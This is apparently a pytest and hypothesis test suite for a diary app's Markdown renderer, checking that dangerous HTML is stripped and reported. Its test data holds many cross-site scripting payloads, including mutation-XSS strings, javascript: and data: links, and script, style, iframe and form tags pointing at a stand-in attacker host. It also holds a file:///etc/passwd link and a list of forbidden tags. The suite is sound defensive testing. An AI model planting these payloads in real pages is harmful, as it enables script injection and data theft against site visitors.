"""Nothing that runs, loads or moves by itself ever comes out of Markdown, whatever was put in."""

import re
from typing import Any

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from diarist.body.cleaning import PAGES_OWN
from diarist.body.markup import Renderer
from tests.diaries import ROOT

RENDERER = Renderer()
SAFE_SCHEMES = {"http", "https", "mailto", "tel", "sms", "geo", "wiki"}
"""`wiki:` is an address that never reaches a page: whoever places the words finds the file that is meant."""
ADDRESSES = {"href", "src", "action", "formaction", "data", "poster", "background", "cite", "srcset", "xlink:href"}
NEVER = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "svg",
    "math",
    "form",
    "input",
    "button",
    "template",
    "meta",
} | {"link", "base", "video", "audio", "noscript", "textarea", "title", "xmp", "frame", "applet", "marquee", "select"}

REFUSED = {
    "<script>alert(1)</script>": "<script>",
    "Words <script src=//evil.example/x.js></script> words": "<script>",
    "<ScRiPt\n>alert(1)</sCrIpT >": "<script>",
    "<img src=x onerror=alert(1)>": "onerror=",
    "<b onmouseover='alert(1)'>x</b>": "onmouseover=",
    "<p\tONCLICK=alert(1)>x</p>": "onclick=",
    "<details open ontoggle=alert(1)>x</details>": "ontoggle=",
    "[x](javascript:alert(1))": "javascript:",
    "[x](JaVaScRiPt:alert(1))": "javascript:",
    "[x](&#106;avascript:alert(1))": "javascript:",
    "[x](javascript&colon;alert(1))": "javascript:",
    "[x][y]\n\n[y]: javascript:alert(1)": "javascript:",
    "<javascript:alert(1)>": "javascript:",
    '<a href="java\nscript:alert(1)">x</a>': "javascript:",
    '<a href=" javascript:alert(1)">x</a>': "javascript:",
    '<a href="java&Tab;script:alert(1)">x</a>': "javascript:",
    '<a href="&#1;javascript:alert(1)">x</a>': "javascript:",
    "<a href=javascript:alert(1)>x</a>": "javascript:",
    "<img src='javascript:alert(1)'>": "javascript:",
    "[x](vbscript:msgbox)": "vbscript:",
    "[x](file:///etc/passwd)": "file:",
    "[x](blob:https://evil.example/1)": "blob:",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)": "data:",
    "[x](data:text/html,<b>x)": "data:",
    '<iframe src="https://evil.example"></iframe>': "<iframe>",
    "<iframe srcdoc='<b>x</b>'></iframe>": "<iframe>",
    "<svg onload=alert(1)></svg>": "<svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>": "<svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>": "<math>",
    "<style>@import '//evil.example/x.css'</style>": "<style>",
    "<form action=https://evil.example><input></form>": "<form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>": "<meta>",
    "<base href=https://evil.example>": "<base>",
    "<link rel=stylesheet href=https://evil.example>": "<link>",
    "<template><script>alert(1)</script></template>": "<template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>": "<noscript>",
    "<object data=x></object>": "<object>",
    "<embed src=x>": "<embed>",
    "<video src=x></video>": "<video>",
    "<textarea></textarea><img src=x onerror=alert(1)>": "<textarea>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>": "<form>",
    "[x](https://[y)": "the address https://[y, which no browser can read,",
    "[x](<https://my site.example/>)": "no browser can read",
}


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    """Every element a browser makes of some HTML, in the body of a page, with its attributes."""
    tree: Any = html5lib.parse(f"<!doctype html><body><article>{html}</article>", namespaceHTMLElements=False)
    body = tree.find("body")
    return [(str(element.tag), dict(element.attrib)) for element in body.iter() if isinstance(element.tag, str)]


def scheme(address: str) -> str:
    """An address's scheme, as browsers read it: https://url.spec.whatwg.org/#concept-basic-url-parser, steps 1 to 3."""
    found = re.match(r"[\x00-\x20]*([a-z][a-z0-9+.-]*):", re.sub(r"[\t\n\r]", "", address).lower())
    return found[1] if found else "https"


def dangers(html: str) -> list[str]:
    """What in some HTML could run, load or move."""
    found = []
    for tag, attributes in elements(html):
        found += [tag] if tag in NEVER else []
        for name, value in attributes.items():
            aligned = name == "style" and re.fullmatch(r"text-align: ?\w+;?", value)
            if name.startswith("on") or (name in {"srcdoc", "style"} and not aligned):
                found.append(f"{tag} {name}={value}")
            if name in ADDRESSES and scheme(value) not in SAFE_SCHEMES:
                found.append(f"{tag} {name}={value}")
    return found


@pytest.mark.parametrize(("text", "named"), REFUSED.items())
def test_what_is_dangerous_is_taken_out_and_named(text: str, named: str) -> None:
    rendered = RENDERER.render(f"Before.\n\n{text}\n\nAfter.")
    assert not dangers(rendered.html)
    assert any(named in remark.what for remark in rendered.remarks), rendered.remarks
    assert not dangers(rendered.lead)


@pytest.mark.parametrize("text", [text for text in REFUSED if "&" not in text])
def test_almost_every_refusal_names_its_line(text: str) -> None:
    lines = {remark.line for remark in RENDERER.render(f"Before.\n\n{text}").remarks}
    assert lines
    assert min(lines) >= 3


@pytest.mark.parametrize(
    "text",
    [
        "Tea < coffee, and a <3 for you. 5 > 4.",
        "Our motto: on time = on deck. `<script>` is a word here.",
        "```html\n<img src=x onerror=alert(1)>\n```",
        "<!-- a note to myself: <script> -->",
        "The ratio href: 10:30, see [the table](#t){#u}.",
        "[mail](mailto:a@b.example) [ring](tel:+44) [far](https://x.example/a?b=c:d&e=javascript:f)",
        "Said <kbd>Ctrl</kbd> <mark>m</mark> <abbr title='on = off'>x</abbr>",
        "<p id=oneself>one</p>",
        "![x](y.jpg){onload=alert(1)}",
        "[x](&#x6A&#x61vascript&#58;alert(1))",
        "<script/x>alert(1)</script>",
        '<img src="x"onerror="alert(1)">',
        '<a href="java\n\nscript:alert(1)">x</a>',
    ],
)
def test_what_only_looks_dangerous_is_let_be(text: str) -> None:
    rendered = RENDERER.render(text)
    assert rendered.remarks == ()
    assert not dangers(rendered.html)


def test_an_address_in_an_attribute_cannot_end_it() -> None:
    rendered = RENDERER.render('<abbr title="<img src=" class=">x" lang="<b>">y</abbr>')
    assert re.findall(r"<(\w+)", rendered.html) == ["p", "abbr"]


def test_the_finder_of_dangers_finds_them() -> None:
    for text in ("<img src=x onerror=y>", "<a href='java\nscript:x'>y</a>", "<script></script>", "<p style='top:0'>x"):
        assert dangers(text), text


PIECES = r"""< > / = " ' ` & ; : ( ) [ ] ! # -- <!-- --> script <script> </script> <style> </style> <svg> <math> <mtext>
<mglyph> <table> <p> <a <img <iframe <template> <noscript> <xmp> <textarea> <title> <select> <![CDATA[ ]]> <? ?> href=
src= onerror= onload=alert(1) title= style= srcdoc= javascript: data:text/html, &#106;avascript: &lt; &quot;
&NewLine; &colon; alert(1) [x]( ![x]( {onclick=alert(1)} > - ``` [^1] [^1]: *[x]: \ é <b <details x"""
BLANKS = [" ", "\n", "\n\n", "\t", "    ", "\x01", "\u202e", "java\nscript:", "| a |\n|---|\n"]


@settings(max_examples=400, deadline=None)
@given(st.tuples(st.sampled_from(["", " "]), st.lists(st.sampled_from([*PIECES.split(), *BLANKS]), max_size=30)))
def test_no_soup_of_markdown_and_html_makes_anything_dangerous(soup: tuple[str, list[str]]) -> None:
    rendered = RENDERER.render(soup[0].join(soup[1]))
    assert not dangers(rendered.html)
    assert not dangers(rendered.lead)


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=80))
def test_no_text_makes_anything_dangerous_or_breaks_the_renderer(text: str) -> None:
    assert not dangers(RENDERER.render(text).html)


def test_the_places_of_the_page_around_an_entry_have_names_that_no_entry_gives() -> None:
    templates = ROOT / "templates/site"
    around = [templates / "entry.html", templates / "base.html", *(templates / "partials").glob("[!p]*.html")]
    names = {name for path in around for name in re.findall(r' id="([^"{]+)"', path.read_text("utf-8"))}
    assert names
    assert all(name.startswith(PAGES_OWN) for name in names), names
    rendered = RENDERER.render("".join(f'<a id="{name}" name="{name}"></a> ' for name in names))
    assert rendered.ids == ()
    assert len(rendered.remarks) >= len(names)


@pytest.mark.parametrize(
    ("text", "lost"),
    [
        ('<p class="md-overlay note">x</p>', "md-overlay"),
        ("Words\n{: .h-card }", "h-card"),
        ("[x](y.md){: .u-author rel=me }", "u-author"),
        ('<a href="y.md" rel="me author nofollow">x</a>', "author"),
        ('<div role="alertdialog">x</div>', "alertdialog"),
        ("## Head {#page:content}", "page:content"),
    ],
)
def test_what_belongs_to_the_page_is_taken_out_and_said(text: str, lost: str) -> None:
    rendered = RENDERER.render(text)
    assert lost not in rendered.html
    assert any(lost in remark.what and not remark.blocks for remark in rendered.remarks), rendered.remarks


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ('Lead. <span style="display:none">not yet</span>', "words are hidden here"),
        ("Lead.\n\n<p hidden>not yet</p>", "words are hidden here"),
        ('Lead. <span style="font-size:0">not yet</span>', "words are hidden here"),
        ("Lead. ‹!— ask first —> Good.", "a comment begins here with other signs"),
        ("Lead. <!– ask first –> Good.", "a comment begins here with other signs"),
    ],
)
def test_what_was_to_be_hidden_and_would_be_seen_keeps_the_entry_back(text: str, said: str) -> None:
    assert any(said in remark.what and remark.blocks for remark in RENDERER.render(text).remarks)


@pytest.mark.parametrize("style", ["font-size: 0.7em", "opacity: 0.5"])
def test_small_or_pale_words_are_not_hidden(style: str) -> None:
    assert not any(remark.blocks for remark in RENDERER.render(f'Lead. <span style="{style}">now</span>').remarks)
